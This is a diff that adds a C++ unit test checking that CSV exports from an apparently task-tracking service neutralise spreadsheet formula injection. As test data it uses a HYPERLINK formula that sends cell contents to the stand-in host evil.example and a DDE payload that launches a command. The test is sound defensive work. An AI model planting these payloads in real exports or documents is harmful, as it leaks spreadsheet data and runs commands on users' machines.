@@ -193,5 +193,46 @@ TEST_F(ExportsTest, SummaryTableParsesBackToTheSummary) {
   EXPECT_EQ(rows[4][1], "2");
 }
 
+TEST_F(ExportsTest, TextThatASpreadsheetWouldRunAsAFormulaComesOutAsText) {
+  const std::string hyperlink = R"(=HYPERLINK("http://evil.example/?d="&B3,"Bấm để xem"))";
+  MakeUnit("H29.03", v1::UNIT_KIND_DEPARTMENT, "units/H29", "@SUM(1+1)*cmd|' /C calc'!A0");
+  v1::CreateTaskRequest req;
+  v1::Task* t = req.mutable_task();
+  t->set_assigning_unit("units/H29");
+  t->set_kind(v1::TASK_KIND_ONE_OFF);
+  t->set_title(hyperlink);
+  *t->mutable_deadline() = Day(2026, 3, 31);
+  t->mutable_kpi()->set_description("+1+2");
+  t->mutable_kpi()->set_type(v1::KPI_TYPE_PERCENT);
+  t->mutable_kpi()->set_target_value(80);
+  v1::Assignment* lead = req.add_assignments();
+  lead->set_unit("units/H29.03");
+  lead->set_role(v1::ASSIGNMENT_ROLE_LEAD);
+  ASSERT_THAT(client().CreateTask(req).status(), IsOk());
+
+  Table rows = ParseCsv(Export("tasks/-", ""));
+  ASSERT_THAT(rows, SizeIs(2));
+  EXPECT_EQ(rows[1][1], "'" + hyperlink);                       // the title, readable
+  EXPECT_EQ(rows[1][3], "units/H29.03");
+  EXPECT_EQ(rows[1][12], "'+1+2");                              // the KPI description
+  EXPECT_EQ(rows[1][13], "80");                                 // numbers stay numbers
+
+  v1::ExportSummaryRequest summary;
+  summary.set_unit("units/H29");
+  std::string file;
+  ASSERT_THAT(client().ExportSummary(summary, [&](const std::string& chunk) { file += chunk; }),
+              IsOk());
+  Table table = ParseCsv(file);
+  std::vector<std::string> first_cells;
+  for (const auto& row : table) first_cells.push_back(row[0]);
+  EXPECT_THAT(first_cells, ::testing::Contains("'@SUM(1+1)*cmd|' /C calc'!A0"));
+  for (const auto& row : table) {
+    for (const std::string& cell : row) {
+      EXPECT_TRUE(cell.empty() || std::string("=+@\t\r").find(cell[0]) == std::string::npos)
+          << cell;
+    }
+  }
+}
+
 }  // namespace
 }  // namespace d06::testing
